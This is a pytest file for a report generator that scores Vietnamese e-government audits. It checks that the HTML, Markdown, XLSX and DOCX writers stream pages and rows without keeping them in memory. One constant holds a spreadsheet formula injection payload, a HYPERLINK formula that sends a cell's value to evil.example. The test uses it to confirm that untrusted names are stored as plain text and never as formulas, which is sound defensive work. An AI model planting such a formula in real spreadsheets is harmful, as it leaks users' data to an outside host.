"""A national cohort's report is written in memory that does not grow with the cohort: each unit's explanation page
is made when it is written and dropped once written, the main page's tables are written line by line, the workbook's
sheets and the DOCX ranking tables row by row. These tests watch how the writers consume what they write (never
how long they take): a writer that holds every page or row fails them."""

from __future__ import annotations

import gc
import re
import tracemalloc
import weakref
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import attrs
import docx
import openpyxl
import pytest
from docx.shared import Pt

from cqdt_rules import api
from cqdt_rules.data.readers import load_many
from cqdt_rules.reports import document, write_docx, write_report
from cqdt_rules.reports.document import RankGroup, RankRow, Report, build_report
from cqdt_rules.reports.write_html import html_files
from cqdt_rules.reports.write_markdown import markdown_files

SAMPLE = Path(__file__).resolve().parent.parent / "examples" / "gialai"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")'


@pytest.fixture(scope="module")
def results() -> tuple[Any, Any]:
    ruleset = api.load("egov_2020")
    return tuple(api.score(ruleset, load_many([SAMPLE / f"egov-{year}-audit.yaml"]), run_at="fixed")  # type: ignore[return-value]
                 for year in (2022, 2021))


@pytest.fixture(scope="module")
def report(results: tuple[Any, Any]) -> Report:
    return build_report(*results, lang="en")


class Pages:
    """Counts the unit pages made, and how many are alive at once (each is let go of when no writer holds it)."""

    def __init__(self) -> None:
        self.made = self.alive = self.most = 0
        self.on_make: list[Any] = []  # called with the count made so far, after each page is made

    def made_one(self, page: object) -> None:
        self.made += 1
        self.alive += 1
        self.most = max(self.most, self.alive)
        weakref.finalize(page, self._gone)
        for check in self.on_make:
            check(self.made)

    def _gone(self) -> None:
        self.alive -= 1


@pytest.fixture
def pages(monkeypatch: pytest.MonkeyPatch) -> Pages:
    counted = Pages()
    unit_page = document._unit_page

    def counting(change, *args):  # type: ignore[no-untyped-def]
        page = unit_page(change, *args)
        counted.made_one(page)
        return page

    monkeypatch.setattr(document, "_unit_page", counting)
    return counted


def test_building_a_report_makes_no_unit_page(results: tuple[Any, Any], pages: Pages) -> None:
    built = build_report(*results, lang="en")
    assert pages.made == 0
    assert [len(tier.units) for tier in built.tiers] == [len(list(results[0].tier_units(t.id))) for t in built.tiers]


@pytest.mark.parametrize("fmt", ["html", "md"])
@pytest.mark.parametrize("page_units", [10, None])  # every tier on pages of its own; every unit on the main page
def test_unit_pages_are_made_one_at_a_time_as_they_are_written(report: Report, pages: Pages, fmt: str,
                                                                page_units: int | None, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    if page_units is not None:
        monkeypatch.setattr(document, "PAGE_UNITS", page_units)
    units = sum(len(tier.units) for tier in report.tiers)
    stem = f"report-{report.ruleset_id}-{report.year}-{report.lang}"
    seen: dict[str, bool] = {}

    def beside(name: str) -> list[Path]:  # a page written, beside its place until every file of the report is
        return list(tmp_path.glob(f".{name}.*.partial"))

    def written_so_far(made: int) -> None:
        if made == 1:  # the main page is written, whole, before any unit's page is made
            main = beside(f"{stem}.{fmt}")
            seen["main"] = len(main) == 1 and main[0].read_text(encoding="utf-8").endswith(
                "</html>\n" if fmt == "html" else f"{report.ruleset_hash}.\n")
        if made == units:  # the first page of explanations is written before the last unit's page is made
            seen["first page"] = len(beside(f"{stem}-giai-trinh-so-1.{fmt}")) == 1

    if page_units is not None:
        pages.on_make.append(written_so_far)
    write_report(report, tmp_path, [fmt])
    assert pages.made == units  # each unit's page made once
    assert pages.most <= 2  # the page being written, and the next one as it is made
    if page_units is not None:
        assert seen == {"main": True, "first page": True}


@pytest.mark.parametrize("files", [html_files, lambda r, name: markdown_files(r, name, "charts")[0]])
def test_the_main_page_is_made_line_by_line_as_it_is_written(report: Report, pages: Pages, files: Any) -> None:
    name, text = next(iter(files(report, "report.x")))
    pieces = iter(text)
    next(pieces)
    assert pages.made == 0  # nothing of the units is made before the first line is written
    rest = sum(1 for _ in pieces)
    rows = sum(len(group.rows) for tier in report.tiers for group in tier.groups)
    assert rest > rows  # the ranking tables come a row at a time, never as one text
    assert pages.made == sum(len(tier.units) for tier in report.tiers)  # the explanations on the main page


# ---------------------------------------------------------------- XLSX and DOCX: rows written as they are made
class Rows(Sequence[RankRow]):
    """``count`` ranking rows made when read, each time they are read; records, on each reading, the memory traced
    when its first and its last row are made, so a writer that keeps the rows it has written shows it."""

    def __init__(self, like: RankRow, count: int) -> None:
        self.like, self.count = like, count
        self.traced: list[tuple[int, int]] = []

    def __len__(self) -> int:
        return self.count

    def __getitem__(self, index: Any) -> Any:
        raise AssertionError("the rows are read in order")

    def __iter__(self) -> Iterator[RankRow]:
        first = 0
        for number in range(self.count):
            if number == 1:
                first = tracemalloc.get_traced_memory()[0]
            if number == self.count - 1:
                self.traced.append((first, tracemalloc.get_traced_memory()[0]))
            name = HOSTILE if number == self.count // 2 else f"Xã thứ {number} của một tỉnh rất xa"
            yield attrs.evolve(self.like, code=f"X{number:06d}", name=name, rank=number + 1, of=self.count)

    @property
    def most_kept(self) -> int:
        """The most memory any reading kept between its first and its last row."""
        return max(last - first for first, last in self.traced)


def _with_many_rows(report: Report, count: int) -> tuple[Report, Rows]:
    """The report with its communes' rankings replaced by one group of ``count`` rows made when read."""
    communes = next(t for t in report.tiers if t.id == "xa")
    rows = Rows(communes.groups[0].rows[0], count)
    many = attrs.evolve(communes, groups=(RankGroup("X", "Huyện X (X)", rows),))  # type: ignore[arg-type]
    return attrs.evolve(report, tiers=tuple(many if t is communes else t for t in report.tiers)), rows


def test_xlsx_sheets_are_written_row_by_row(report: Report, tmp_path: Path) -> None:
    large, rows = _with_many_rows(report, 4000)
    tracemalloc.start()
    try:
        [path] = write_report(large, tmp_path, ["xlsx"])
    finally:
        tracemalloc.stop()
    assert rows.most_kept < 400 * 1000  # a row held as cells costs some 2,000 bytes: 8 MB for these
    book = openpyxl.load_workbook(path)
    sheet = next(s for s in book.worksheets if s.max_row > 4000)
    with zipfile.ZipFile(path) as package:
        parts = [package.read(name).decode() for name in package.namelist() if name.startswith("xl/worksheets/")]
    covered = [re.search(r'<dimension ref="A1:([A-Z]+)(\d+)"/>', part) for part in parts]
    assert all(covered) and (sheet.cell(5, sheet.max_column).column_letter, str(sheet.max_row)) in [
        found.groups() for found in covered if found]  # the range, which write-only mode leaves out, put back
    hostile = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert [c.data_type for c in hostile] == ["s"]  # untrusted text is never a formula
    assert not [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_docx_ranking_rows_are_written_into_the_saved_document_as_they_are_made(report: Report, tmp_path: Path,
                                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    large, rows = _with_many_rows(report, 4000)
    events: list[tuple[str, int]] = []
    save = docx.document.Document.save
    made = Rows.__iter__

    def saved(self: Any, path: Any) -> None:
        events.append(("saved with rows in its tree", len(self.element.body.xpath(".//w:tr"))))
        save(self, path)

    def watched(self: Rows) -> Iterator[RankRow]:
        for number, row in enumerate(made(self)):
            if number == self.count - 1:
                events.append(("last row made", number))
            yield row

    monkeypatch.setattr(docx.document.Document, "save", saved)
    monkeypatch.setattr(Rows, "__iter__", watched)
    [path] = write_report(large, tmp_path, ["docx"])
    assert [what for what, _ in events] == ["saved with rows in its tree", "last row made"]
    assert events[0][1] < 1000  # the tree held the small tables and the large ones' heads, never their rows
    with zipfile.ZipFile(path) as package:
        body = package.read("word/document.xml").decode("utf-8")
    assert body.count("Xã thứ ") == 3999 and body.count(HOSTILE.replace("&", "&amp;").replace('"', '"')) == 1
    assert re.search(r"[0-9a-f]{32}-\d", body) is None  # every marker replaced by its table's rows
    assert len(docx.Document(str(path)).tables[-1].rows) == 4001


def test_docx_rows_written_into_the_saved_file_are_those_of_the_document_tree(tmp_path: Path) -> None:
    """The same rows, written in python-docx's tree and written into the saved file, read back the same, a row with
    a tab or a line break (which python-docx writes as elements) included."""
    rows = [["1", "Xã <A> & \"B\"", " 92,5 "], ["2", "", "x"], ["3", "line\nbreak\tand tab", "7"], ["4", "Phường D", "1.000,25"]]
    in_tree, later = docx.Document(), docx.Document()
    write_docx._table(in_tree, ["Hạng", "Đơn vị", "Điểm"], rows, {0, 2}, Pt)
    waiting = write_docx._LaterRows()
    write_docx._table(later, ["Hạng", "Đơn vị", "Điểm"], iter(rows), {0, 2}, Pt, waiting)
    in_tree.save(str(tmp_path / "tree.docx"))
    later.save(str(tmp_path / "later.docx"))
    waiting.write(tmp_path / "later.docx")

    def body(name: str) -> str:
        with zipfile.ZipFile(tmp_path / name) as package:
            return package.read("word/document.xml").decode("utf-8")

    assert body("later.docx") == body("tree.docx")
    assert "<w:br/>" in body("later.docx") and "<w:tab/>" in body("later.docx")


def test_results_keep_nothing_of_the_pages_written(results: tuple[Any, Any], tmp_path: Path) -> None:
    """The engine's results keep the explanation they work out when read: the pages read them so that they do not,
    or a national cohort's explanations would all be kept (some 7 KB a commune) once written."""
    write_report(build_report(*results, lang="en"), tmp_path / "warm", ["html"])  # the writers' own caches filled
    ruleset = api.load("egov_2020")
    fresh = api.score(ruleset, load_many([SAMPLE / "egov-2022-audit.yaml"]), run_at="fixed")
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        write_report(build_report(fresh, lang="en"), tmp_path / "fresh", ["html"])
        gc.collect()
        kept = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert kept < 1000 * len(fresh.units), kept  # a few hundred bytes a unit; some 6,000 when explanations are kept


def test_a_package_rewrite_that_fails_leaves_the_saved_package_and_nothing_beside_it(tmp_path: Path) -> None:
    from cqdt_rules.reports.packages import rewrite_parts

    path = tmp_path / "report.docx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("word/document.xml", b"<w:document>saved</w:document>")
        package.writestr("docProps/app.xml", b"<Properties/>")
    saved = path.read_bytes()

    def failing(part: Any) -> Iterator[bytes]:
        yield b"<w:document>"
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space left"):
        rewrite_parts(path, {"word/document.xml": failing})
    assert path.read_bytes() == saved
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.docx"]

    rewrite_parts(path, {"word/document.xml": lambda part: [part.read().replace(b"saved", b"rewritten")]})
    with zipfile.ZipFile(path) as package:
        assert package.read("word/document.xml") == b"<w:document>rewritten</w:document>"
        assert package.namelist() == ["word/document.xml", "docProps/app.xml"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.docx"]
